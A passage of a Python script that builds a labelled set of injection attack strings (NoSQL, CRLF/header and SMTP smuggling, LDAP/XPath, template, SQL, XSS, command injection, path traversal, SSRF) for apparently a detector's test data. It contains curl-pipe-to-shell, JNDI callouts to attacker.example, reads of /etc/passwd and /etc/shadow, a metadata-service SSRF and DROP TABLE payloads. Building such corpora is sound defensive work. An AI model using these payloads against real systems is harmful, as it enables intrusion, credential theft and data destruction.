        ("ruby-eval", "#{`cat /etc/passwd`}"),
        ("groovy-eval", "\"id\".execute().text"),
        ("plain-ssti", "{{7*7}}${7*7}<%= 7*7 %>"),
        ("plain-jndi", "${jndi:ldap://attacker.example/a}"),
        ("plain-jinja-config", "{{config}}"),
        ("plain-el", "${7*7}"),
        ("plain-erb", "<%= system('id') %>"),
    ],
    "nosqli": [
        ("login-mongo-ne", "{\"email\": \"committee@allotments.example\", \"password\": {\"$ne\": null}}"),
        ("login-mongo-gt", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
        ("login-mongo-regex", "{\"email\": {\"$regex\": \"^a\"}, \"password\": {\"$ne\": \"x\"}}"),
        ("query-bracket-ne", "password[$ne]=seeds"),
        ("query-bracket-regex", "email[$regex]=.*&password[$exists]=true"),
        ("query-bracket-in", "plot[$in][]=1&plot[$in][]=2&plot[$in][]=60"),
        ("filter-where", "{\"$where\": \"this.role == 'admin' || sleep(5000)\"}"),
        ("filter-where-string", "'; return this.password.match(/^a/) && ''=='"),
        ("filter-where-time", "kale'; var d=new Date(); do{ cur=new Date(); } while(cur-d<5000); '"),
        ("search-regex-dos", "{\"crop\": {\"$regex\": \"^(a+)+$\"}}"),
        ("filter-or", "{\"$or\": [{\"owner\": \"me\"}, {\"owner\": {\"$exists\": true}}]}"),
        ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"members\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"m\"}}]"),
        ("update-operator", "{\"$set\": {\"role\": \"admin\"}}"),
        ("filter-expr", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password_hash\"}, 0]}}"),
        ("filter-function", "{\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}"),
        ("couch-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
        ("seedswap-nin", "{\"status\": {\"$nin\": [\"hidden\"]}, \"owner\": {\"$ne\": \"\"}}"),
        ("plotmap-mapreduce", "{\"mapReduce\": \"plots\", \"map\": \"function(){emit(this.holder, this.phone)}\", \"reduce\": \"function(k,v){return v}\"}"),
        ("redis-eval", "EVAL \"return redis.call('config','get','*')\" 0"),
        ("elastic-script", "{\"script\": {\"source\": \"java.lang.Math.class.forName('java.lang.Runtime')\"}}"),
        ("plain-ne", "{\"$ne\": null}"),
        ("plain-gt-query", "username[$gt]=&password[$gt]="),
        ("plain-gt", "{\"$gt\": \"\"}"),
    ],
    "crlf": [
        ("log-forge", "Watered zone 2\n2025-07-14 09:00:01 INFO admin login ok user=committee ip=10.0.0.1"),
        ("log-forge", "tomato\r\n[CRITICAL] member 44 password reset by admin"),
        ("log-forge-ansi", "Frost -3C \u001b[2J\u001b[1;31mDATABASE CORRUPTED run /tmp/fix.sh\u001b[0m"),
        ("header-setcookie", "plot14\r\nSet-Cookie: session=attacker-fixed; Path=/"),
        ("header-location", "/calendar\r\nLocation: https://attacker.example/login"),
        ("header-response-split", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
        ("header-setcookie+urlenc", "seeds%0d%0aSet-Cookie:%20admin=1"),
        ("header-setcookie+urlenc", "/plots%0D%0AX-Forwarded-Host:%20attacker.example"),
        ("header-setcookie+urlenc2", "/map%250d%250aSet-Cookie:%2520sid=fixed"),
        ("header-setcookie+unicode-truncation", "/swap\u560a\u560dSet-Cookie: x=1"),
        ("mail-bcc", "Priya <priya@allotments.example>\r\nBcc: list@attacker.example"),
        ("mail-subject", "Seed swap reminder\nCc: everyone@attacker.example\nContent-Type: text/html\n\n<a href=https://attacker.example>Claim seeds</a>"),
        ("mail-from-header", "noreply@allotments.example\r\nReply-To: harvest@attacker.example"),
        ("mail-smtp-smuggle", "Hi\r\n.\r\nMAIL FROM:<committee@allotments.example>\r\nRCPT TO:<victim@allotments.example>\r\nDATA\r\nSubject: Rent overdue\r\n\r\nPay to attacker.example\r\n.\r\n"),
        ("csv-log-newline", "Courgette\n44,committee,admin,2025-01-01"),
        ("syslog-forge", "sensor-3 ok\n<13>Jul 14 09:00:00 allotment-hut sshd[1]: Accepted password for root from 203.0.113.4"),
        ("json-log-forge", "bean\",\"level\":\"error\",\"user\":\"admin\",\"msg\":\"granted"),
        ("redirect-param", "/plots?next=%0d%0aRefresh:%200;url=https://attacker.example"),
        ("cache-header", "/weather\r\nCache-Control: public, max-age=31536000"),
        ("host-header", "allotments.example\r\nX-Original-URL: /admin"),
        ("irc-like-cmd", "Hello from plot 9\r\nPRIVMSG #committee :rent is waived, pay at attacker.example"),
        ("webhook-header", "Basic Zm9vOmJhcg==\r\nX-Admin: true"),
        ("http-request-smuggle", "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        ("lf-only-header", "tomato\nX-XSS-Protection: 0"),
        ("plain-crlf+urlenc", "%0d%0aInjected: header"),
        ("plain-crlf-raw", "x\r\nSet-Cookie: a=b"),
        ("plain-crlf-header", "\r\nX-Injected: 1"),
    ],
    "ldap-xpath": [
        ("ldap-member-wildcard", "*)(uid=*))(|(uid=*"),
        ("ldap-member-tautology", "priya)(|(objectClass=*)"),
        ("ldap-login-bypass", "committee)(&)"),
        ("ldap-login-bypass", "admin*)((|userPassword=*)"),
        ("ldap-attribute-leak", "*)(mail=*@allotments.example)(cn=*"),
        ("ldap-blind", "jo)(userPassword=a*"),
        ("ldap-blind", "*)(description=plot 1*"),
        ("ldap-nul", "tom)\u0000"),
        ("ldap-group", "*)(memberOf=cn=committee,ou=groups,dc=allotments,dc=example"),
        ("ldap-wildcard+hex-escape", "\\2a)(uid=\\2a"),
        ("xpath-login", "' or '1'='1"),
        ("xpath-login", "committee' or name()='member' or 'a'='b"),
        ("xpath-union", "kale'] | //member/password | //*[name()='x"),
        ("xpath-blind", "' or substring(//member[1]/password,1,1)='s' or 'a'='b"),
        ("xpath-count", "x' or count(//member)>10 or 'x'='y"),
        ("xpath-doc", "') or doc('http://attacker.example/x.xml') or ('1'='1"),
        ("xpath-string-length", "leek' and string-length(//user[position()=1]/pass)>6 and '1'='1"),
        ("xpath-node-all", "']/../*|//*['"),
        ("plain-ldap", "*)(|(cn=*"),
        ("plain-xpath", "' or 1=1 or ''='"),
        ("plain-ldap-password", "admin)(|(password=*))"),
    ],
}

# ---------------------------------------------------------------- templates
# Encoded / templated variants over small hand-written pools (computed, not literals).
DOMAIN_PREFIX = ["Sungold", "Bed C3", "Zone 2", "pH 6.5", "Plot 14B", "Aquadulce", "runner bean"]

SQLI_CORE = ["' OR 'a'='a", "' UNION SELECT email, password_hash FROM members-- ",
             "'; DROP TABLE plots;--", "' AND SLEEP(5)-- ", "' OR 1=1#"]
XSS_CORE = ["<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
            "<svg onload=alert(document.domain)>", "\"><script>alert(1)</script>"]
CMDI_CORE = [";cat /etc/passwd", "|id", "$(whoami)", "&& curl http://203.0.113.5/i|sh", "`uname -a`"]
TRAV_CORE = ["../../../../etc/passwd", "../../../../etc/shadow", "../../../../proc/self/environ",
             "..\\..\\..\\windows\\win.ini"]
SSRF_HOSTS = [(169, 254, 169, 254), (127, 0, 0, 1), (10, 0, 0, 1), (192, 168, 0, 1)]
SSRF_PATHS = ["/latest/meta-data/", "/admin", "/", "/server-status"]
CODE_CORE = ["{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${jndi:ldap://attacker.example/z}",
             "<%= `id` %>", "#{7*7}${T(java.lang.Runtime).getRuntime().exec('id')}"]


def urlenc(s):
    return quote(s, safe="")


def urlenc2(s):
    return quote(quote(s, safe=""), safe="")


def html_entities(s):
    return "".join(f"&#{ord(c)};" for c in s)


def unicode_escape(s):
    return "".join(f"\\u{ord(c):04x}" for c in s)


def overlong(s):
    return s.replace("/", "%c0%af").replace(".", "%c0%ae")


def t_sqli(r):
    p, c = r.choice(DOMAIN_PREFIX), r.choice(SQLI_CORE)
    enc = r.choice(["urlenc", "urlenc2", "comment"])
    if enc == "urlenc":
        return "search-mixed+urlenc", urlenc(p + c)
    if enc == "urlenc2":
        return "search-mixed+urlenc2", urlenc2(p + c)
    return "search-mixed+comment-space", p + c.replace(" ", "/**/")


def t_xss(r):
    p, c = r.choice(DOMAIN_PREFIX), r.choice(XSS_CORE)
    enc = r.choice(["urlenc", "entities", "unicode"])
    if enc == "urlenc":
        return "note-html+urlenc", urlenc(p + " " + c)
    if enc == "entities":
        return "attr-javascript+html-entities", "<a href=\"" + html_entities("javascript:alert(1)") + f"\">{p}</a>"
    return "js-string+unicode-escape", p + "';" + unicode_escape("alert(document.cookie)") + "//"


def t_cmdi(r):
    p, c = r.choice(DOMAIN_PREFIX), r.choice(CMDI_CORE)
    if r.random() < 0.5:
        return "controller-mixed+urlenc", urlenc(p + c)
    return "controller-mixed+newline", p + "\n" + c.lstrip(";|&` ").rstrip("`")


def t_trav(r):
    c = r.choice(TRAV_CORE)
    enc = r.choice(["urlenc", "urlenc2", "overlong"])
    if enc == "urlenc":
        return "photo-path-dotdot+urlenc", "photos/" + quote(c, safe="")
    if enc == "urlenc2":
        return "photo-path-dotdot+urlenc2", "photos/" + urlenc2(c)
    return "photo-path-dotdot+overlong-utf8", "photos/" + overlong(c)


def t_ssrf(r):
    a, b, c, d = r.choice(SSRF_HOSTS)
    path = r.choice(SSRF_PATHS)
    form = r.choice(["decimal", "hex", "octal"])
    if form == "decimal":
        return "webhook-ip+decimal", f"http://{(a << 24) | (b << 16) | (c << 8) | d}{path}"
    if form == "hex":
        return "webhook-ip+hex", f"http://0x{a:02x}.0x{b:02x}.0x{c:02x}.0x{d:02x}{path}"
    return "webhook-ip+octal", f"http://0{a:o}.0{b:o}.0{c:o}.0{d:o}{path}"


def t_code(r):
    p, c = r.choice(DOMAIN_PREFIX), r.choice(CODE_CORE)
    if r.random() < 0.5:
        return "template-mixed+urlenc", urlenc(f"{p} {c}")
    return "template-mixed+unicode-escape", p + " " + c.replace("{", "\\u007b").replace("}", "\\u007d")


TEMPLATES = {"sqli": (t_sqli, 8), "xss": (t_xss, 10), "cmdi": (t_cmdi, 9), "traversal": (t_trav, 9),
             "ssrf": (t_ssrf, 10), "code": (t_code, 5), "nosqli": (None, 0), "crlf": (None, 0),
             "ldap-xpath": (None, 0)}


def main():
    r = random.Random(SEED)
    rows, seen, lit_total = [], set(), 0
    per_cat = {}
    for cat, lits in LITERALS.items():
        items = []
        for cls, v in lits:
            assert v not in seen, v
            seen.add(v)
            items.append((cls, v))
        lit_total += len(lits)
        fn, n = TEMPLATES[cat]
        extra = 0
        while extra < n:
            cls, v = fn(r)
            if v not in seen:
                seen.add(v)
                items.append((cls, v))
                extra += 1
        per_cat[cat] = (len(items), len(lits))
        for cls, v in items:
            assert isinstance(v, str) and v and len(v) <= 1800, v
            rows.append({"category": cat, "class": cls, "label": "attack", "value": v})
    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        bvals = {json.loads(line)["value"] for line in benign.read_text(encoding="utf-8").splitlines()}
        clash = [row["value"] for row in rows if row["value"] in bvals]
        assert not clash, clash
    assert lit_total / len(rows) >= 0.8
    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as f:
        for i, row in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": row["category"], "class": row["class"],
                   "label": row["label"], "value": row["value"]}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    for cat, (n, nl) in per_cat.items():
        print(f"{cat:12s} {n:4d} (literals {nl})")
    print(f"total {len(rows)}, literals {lit_total}")


if __name__ == "__main__":
    main()
